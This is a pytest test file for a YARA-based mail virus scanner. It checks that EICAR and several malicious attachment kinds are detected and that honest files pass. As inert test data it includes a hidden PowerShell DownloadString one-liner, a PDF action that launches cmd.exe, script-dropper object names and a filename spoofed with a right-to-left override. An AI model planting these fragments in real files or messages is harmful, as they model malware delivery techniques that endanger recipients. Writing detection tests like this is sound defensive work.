"""The virus rules over messages and their parts (mail/checks/virus.py and its rules)."""

from __future__ import annotations

import base64
import threading
from email.message import EmailMessage
from pathlib import Path

import pytest
import yara_x
from hypothesis import given
from hypothesis import strategies as st

from bench.anonymous import Peak
from mail.checks import virus
from mail.checks.pipeline import Clean, IncomingMessage, Infected, Unchecked, Verdict
from mail.checks.virus import RULES, RulesError, YaraCheck, load_rules
from tests.mail.sample_messages import EICAR, VALID, mutants, with_attachment

FOUND = Infected("EICAR Test File")


@pytest.fixture(scope="module")
def check() -> YaraCheck:
    return YaraCheck()


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("virus") / "message.eml"


def _verdict(check: YaraCheck, place: Path, data: bytes) -> Verdict:
    place.write_bytes(data)
    return check.check(IncomingMessage(place))


def _header(encoding: str) -> bytes:
    return f"From: mallory@example.org\nContent-Transfer-Encoding: {encoding}\n".encode()


def _forwarded(data: bytes) -> bytes:
    return b"Content-Type: message/rfc822\n\n" + data


@pytest.mark.parametrize(
    "data",
    [
        with_attachment(EICAR),
        with_attachment(EICAR, encoding="quoted-printable"),
        with_attachment(EICAR, name="harmless.txt"),
        with_attachment(EICAR + b" \t\r\n\x1a" * 12),
        b"From: mallory@example.org\n\n" + EICAR + b"\r\n",
        _header("base64") + b"\n" + base64.b64encode(EICAR),
        _header("BASE64 ; x=y") + b"\n" + base64.b64encode(EICAR).replace(b"W", b"\r\n W"),
        _header("base64") + b"Content-Type: text/html\n\n" + base64.b64encode(EICAR),
        _forwarded(with_attachment(EICAR)),
        _forwarded(_forwarded(_forwarded(with_attachment(EICAR)))),
        _header("base64") + b"Content-Type: message/rfc822\n\n" + base64.encodebytes(with_attachment(EICAR)),
        with_attachment(with_attachment(EICAR), name="message.eml"),
        b"Content-Type: multipart/mixed; boundary=b\n\n--b\n\nno end\n--b\nX-Odd: yes\n\n" + EICAR,
        EICAR,
    ],
    ids=["base64", "quoted-printable", "other name", "with white space", "as the text", "whole message encoded",
         "odd base64", "called HTML", "forwarded", "forwarded thrice", "forwarded encoded", "as an eml file",
         "after an unclosed part", "no message at all"],
)  # fmt: skip
def test_eicar_is_found_wherever_it_is(check: YaraCheck, place: Path, data: bytes) -> None:
    assert _verdict(check, place, data) == FOUND


@pytest.mark.parametrize(
    "data",
    [
        with_attachment(b" " + EICAR),
        with_attachment(EICAR + b"x"),
        with_attachment(EICAR + b" " * 61),
        with_attachment(EICAR[:-1]),
        b"From: alice@example.org\n\nThe test file is this line:\n" + EICAR + b"\n",
    ],
    ids=["not first", "something after it", "129 bytes", "cut", "quoted in a message"],
)  # fmt: skip
def test_what_is_not_exactly_eicar_is_not_taken_for_it(check: YaraCheck, place: Path, data: bytes) -> None:
    assert _verdict(check, place, data) == Clean()


def test_a_scan_has_none_of_a_large_file_in_memory_of_its_own(check: YaraCheck, place: Path) -> None:
    with place.open("wb") as file:
        file.write(b"Subject: x\n\n")
        file.truncate(60_000_000)
    check.check(IncomingMessage(place))  # allocates what the thread keeps
    peak = Peak()
    assert check.check(IncomingMessage(place)) == Clean()
    assert peak.end().growth < 20_000_000


def test_a_large_attachment_is_scanned_to_its_end(check: YaraCheck, place: Path) -> None:
    script = b"x" * (virus.IN_MEMORY + 100) + b" WScript.Shell MSXML2.XMLHTTP ADODB.Stream "
    assert _verdict(check, place, with_attachment(script, "a.js")) == Infected("Script That Downloads And Runs")


PE = b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + b"\0Attribut\0e VB_Name"
ZIP = b"PK\x03\x04" + b"\0" * 26 + b"[Content_Types].xml" + b"word/vbaProject.bin"


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("invoice.pdf.exe", b"x", "Executable With Double Extension"),
        ("photo.JPG    .scr", b"x", "Executable With Double Extension"),
        ("invoice\u202efdp.exe", b"x", "Executable With Direction Override"),
        ("report.pdf", PE, "Program Named As Document"),
        ("photo.jpg", b"\x7fELF" + b"\0" * 60, "Program Named As Document"),
        ("a.doc", OLE + b"AutoOpen ... WScript.Shell", "Document With Self Starting Macro"),
        ("a.xls", OLE + "Workbook_Open powershell".encode("utf-16-le"), "Document With Self Starting Macro"),
        ("a.docx", ZIP, "Macros In Macro Free Format"),
        ("a.rtf", rb"{\rtf1{\object\objupdate{\*\objdata 4571756174696F6E2E33}}}", "RTF With Equation Exploit"),
        ("a.pdf", b"%PDF-1.7 /OpenAction << /S /Launch /Win (cmd.exe) >>", "PDF That Launches A Program"),
        ("a.js", b"ActiveXObject('WScript.Shell') 'MSXML2.XMLHTTP' 'ADODB.Stream'", "Script That Downloads And Runs"),
        ("a.bat", b"powershell.exe -nop -enc " + b"QUJD" * 20, "PowerShell Hidden Download"),
        ("a.bat", b"powershell -w hidden -c (New-Object Net.WebClient).DownloadString('http://x')",
         "PowerShell Hidden Download"),
        ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60 + "C:\\cmd.exe".encode("utf-16-le"),
         "Shortcut That Runs An Interpreter"),
        ("a.html", b"<a download='bill.iso'>atob('x') URL.createObjectURL(b) a.download = 'bill.iso'</a>",
         "HTML That Smuggles A Program"),
    ],
)  # fmt: skip
def test_each_rule_finds_its_kind(check: YaraCheck, place: Path, name: str, content: bytes, found: str) -> None:
    assert _verdict(check, place, with_attachment(content, name)) == Infected(found)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("setup.exe", PE),
        ("report.2026.pdf", b"%PDF-1.7 /OpenAction [3 0 R /Fit]"),
        ("budget.docm", ZIP),
        ("old.doc", OLE + b"Sub Helper()"),
        ("notes.txt", b"powershell -w hidden DownloadString; WScript.Shell, MSXML2.XMLHTTP, ADODB.Stream"),
        ("archive.tar.gz", b"\x1f\x8b"),
        ("page.html", b"<script>atob('eA==')</script>"),
        ("start.ps1", b"Invoke-WebRequest https://example.org"),
    ],
)
def test_honest_files_pass(check: YaraCheck, place: Path, name: str, content: bytes) -> None:
    assert _verdict(check, place, with_attachment(content, name)) == Clean()


def test_a_message_that_mentions_droppers_is_clean(check: YaraCheck, place: Path) -> None:
    text = b"WScript.Shell MSXML2.XMLHTTP ADODB.Stream powershell -w hidden -c DownloadString invoice.pdf.exe"
    assert _verdict(check, place, b"Subject: invoice.pdf.exe\n\n" + text) == Clean()


@pytest.mark.parametrize("path", VALID, ids=lambda path: path.stem)
def test_every_valid_fixture_is_clean(check: YaraCheck, path: Path) -> None:
    assert check.check(IncomingMessage(path)) == Clean()


@pytest.mark.parametrize(
    "data",
    [
        b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 2000,
        b"Content-Type: message/rfc822\n\n" * 200,
        b"a: b\n" * 200_000 + b"\nx",
    ],
    ids=["parts", "depth", "headers"],
)
def test_where_parts_may_hide_the_message_could_not_be_checked(check: YaraCheck, place: Path, data: bytes) -> None:
    assert isinstance(_verdict(check, place, data), Unchecked)


def test_encoded_messages_within_one_another_are_bounded(check: YaraCheck, place: Path) -> None:
    data = with_attachment(EICAR)
    for _ in range(virus.MESSAGE_DEPTH):
        data = with_attachment(data, name="message.eml")
    assert _verdict(check, place, data) == FOUND
    assert isinstance(_verdict(check, place, with_attachment(data, name="message.eml")), Unchecked)


@given(data=mutants() | st.binary(max_size=300))
def test_no_bytes_make_the_scan_fail(check: YaraCheck, place: Path, data: bytes) -> None:
    # One fixture is found, as it must be: a program whose name reads backwards.
    assert _verdict(check, place, data) in (Clean(), Infected("Executable With Direction Override"))


def test_several_threads_scan_at_once(check: YaraCheck, tmp_path: Path) -> None:
    verdicts: list[Verdict] = []

    def scan(number: int) -> None:
        path = tmp_path / f"{number}.eml"
        path.write_bytes(with_attachment(EICAR if number % 2 else b"clean"))
        verdicts.append(check.check(IncomingMessage(path)))

    threads = [threading.Thread(target=scan, args=(number,)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert verdicts.count(FOUND) == verdicts.count(Clean()) == 4


def test_nothing_decoded_is_left_behind(
    check: YaraCheck, place: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    monkeypatch.setattr(virus, "IN_MEMORY", 10)
    assert _verdict(check, place, with_attachment(EICAR)) == FOUND
    assert list(tmp_path.iterdir()) == []


def test_a_scan_that_fails_or_takes_too_long_is_no_verdict(check: YaraCheck, place: Path) -> None:
    class BrokenScanner:
        def __init__(self, error: Exception) -> None:
            self.error = error

        def message(self, *_: object) -> Verdict:
            raise self.error

    place.write_bytes(b"x")
    for error in (yara_x.TimeoutError(), yara_x.ScanError("bad")):
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(virus, "_Scan", lambda _, error=error: BrokenScanner(error))
            assert isinstance(check.check(IncomingMessage(place)), Unchecked)


def test_rules_of_ones_own_are_used_and_bad_ones_are_named(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text('rule Own { strings: $a = "forbidden" condition: $a and kind == "text" }')
    check = YaraCheck(load_rules((RULES, tmp_path)))
    assert _verdict(check, tmp_path / "m.eml", b"Subject: x\n\nthis is forbidden\n") == Infected("Own")
    (tmp_path / "own.yar").write_text("rule Broken {")
    with pytest.raises(RulesError, match=r"own\.yar can't be used"):
        load_rules((RULES, tmp_path))
    with pytest.raises(RulesError, match="no virus rules"):
        load_rules((tmp_path / "empty",))


def test_no_shipped_rule_finds_our_own_source(check: YaraCheck, place: Path) -> None:
    """Otherwise nobody could mail the rules, or these tests."""
    for path in [*RULES.glob("*.yar"), *Path(__file__).parent.glob("*.py")]:
        assert _verdict(check, place, with_attachment(path.read_bytes(), path.name)) == Clean(), path


def test_a_message_with_a_message_part_of_the_standard_library_is_scanned(check: YaraCheck, place: Path) -> None:
    inner = EmailMessage()
    inner.set_content("inner")
    inner.add_attachment(EICAR, "application", "octet-stream", filename="e.com")
    outer = EmailMessage()
    outer.set_content("outer")
    outer.add_attachment(inner)
    assert _verdict(check, place, outer.as_bytes()) == FOUND
